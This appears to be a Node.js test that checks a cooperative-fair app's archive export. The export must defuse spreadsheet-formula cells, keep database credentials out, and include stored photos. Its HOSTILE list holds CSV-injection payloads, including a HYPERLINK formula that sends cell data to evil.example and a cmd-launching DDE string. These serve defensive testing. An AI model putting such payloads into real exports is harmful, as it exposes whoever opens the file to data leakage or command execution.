// backup_archive_csv.test.mjs - the archive of an edition (issue 20),
// checked again in session 4: its CSV cells go through the CSV writer every
// export shares, so a cell a spreadsheet would run as a formula (= + - @ tab
// CR first) is defused; and the archive is written from PostgreSQL as from
// SQLite (COOPFAIR_TEST_PG), stored files included.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { BIN, PG, pgCreate, pgDrop, sqlite, sqliteRows, coopfair } from './server.mjs';

const dir = mkdtempSync(join(tmpdir(), 'coopfair-archive-'));
const db = PG ? pgCreate() : join(dir, 'fair.db');
execFileSync(BIN, ['--db', db, 'init', '--demo'], { stdio: 'pipe' });
after(() => {
  rmSync(dir, { recursive: true, force: true });
  if (PG) pgDrop(db);
});

/** parseCsv - RFC 4180 text (',' between cells, "" inside quotes, CRLF) as rows of cells. */
function parseCsv(text) {
  const rows = [];
  let row = [], cell = '', quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; }
    else if (ch === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += ch;
  }
  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

const unzip = (zip, name) => execFileSync('unzip', ['-p', zip, `coopfair-archive/${name}`], { encoding: 'utf8', maxBuffer: 1 << 28 });

// Hostile names a cooperative could register with (OWASP's CSV injection list).
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Cliquer")', '+212 600 000 000+cmd', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd', '\t=1+1', '\r=1+1'];

test('the archive defuses formula-looking cells and reads this engine', async () => {
  const coops = sqliteRows(db, "SELECT cooperative_id FROM exhibitor WHERE edition_id = (SELECT id FROM edition WHERE slug = 'fes-meknes-2024') ORDER BY id LIMIT 6").map((r) => r[0]);
  assert.equal(coops.length, HOSTILE.length);
  const lit = (s) => `'${s.replace(/'/g, "''").replace(/\t/g, "' || char(9) || '").replace(/\r/g, "' || char(13) || '")}'`;
  HOSTILE.forEach((v, i) => sqlite(db, `UPDATE cooperative SET name_fr = ${lit(v)} WHERE id = ${coops[i]}`));
  assert.equal(sqliteRows(db, `SELECT name_fr FROM cooperative WHERE id = ${coops[0]}`)[0][0], HOSTILE[0]);
  const zip = join(dir, 'fair-2024.zip');
  const r = coopfair(db, 'archive', '--edition', 'fes-meknes-2024', zip);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /archived edition fes-meknes-2024 .* \d+ tables as CSV and XLSX, \d+ rows, \d+ stored files/);
  assert.doesNotMatch(r.stdout + unzip(zip, 'README.txt'), /postgres:\/\/[^/\s]*@/, 'no user or password of the database');

  // the hostile names come back as text, behind an apostrophe
  const [head, ...rows] = parseCsv(unzip(zip, 'csv/cooperative.csv').replace(/^\ufeff/, ''));
  const id = head.indexOf('id'), name = head.indexOf('name_fr');
  assert.ok(id >= 0 && name >= 0, head.join(','));
  HOSTILE.forEach((v, i) => {
    const row = rows.find((x) => x[id] === coops[i]);
    assert.ok(row, `cooperative ${coops[i]} archived`);
    assert.equal(row[name], `'${v}`, `cooperative ${coops[i]}: ${JSON.stringify(row[name])}`);
  });

  // and no cell of any table of the archive starts a formula
  const list = execFileSync('unzip', ['-Z1', zip], { encoding: 'utf8' }).split('\n').filter((f) => /\/csv\/.*\.csv$/.test(f));
  assert.ok(list.length > 30, `${list.length} tables`);
  let cells = 0;
  for (const f of list) {
    for (const row of parseCsv(unzip(zip, f.replace('coopfair-archive/', '')).replace(/^\ufeff/, ''))) {
      for (const c of row) {
        cells++;
        assert.ok(!/^[=+@\t\r]/.test(c) && !(/^-/.test(c) && !/^-\d+(\.\d+)?(e[-+]?\d+)?$/i.test(c)), `${f}: ${JSON.stringify(c.slice(0, 60))}`);
      }
    }
  }
  assert.ok(cells > 5000, `${cells} cells looked at`);

  // the same rows as the database holds, stored files included (bytea on PostgreSQL)
  const edition = unzip(zip, 'csv/edition.csv');
  assert.match(edition, /^\ufeffid,slug,number,/);
  const photos = parseCsv(unzip(zip, 'csv/application_photo.csv').replace(/^\ufeff/, ''));
  const want = sqliteRows(db, "SELECT count(*) FROM application_photo p JOIN application a ON a.id = p.application_id WHERE a.edition_id = (SELECT id FROM edition WHERE slug = 'fes-meknes-2024')")[0][0];
  assert.equal(photos.length - 1, +want);
  assert.ok(+want > 50);
  const file = photos[1][photos[0].indexOf('data')];
  assert.match(file, /^files\/application_photo\/\d+-data\.(jpg|png)$/);
  const bytes = execFileSync('unzip', ['-p', zip, `coopfair-archive/${file}`]);
  assert.ok(bytes[0] === 0xff || bytes[0] === 0x89, 'a picture, decoded from the database');
});
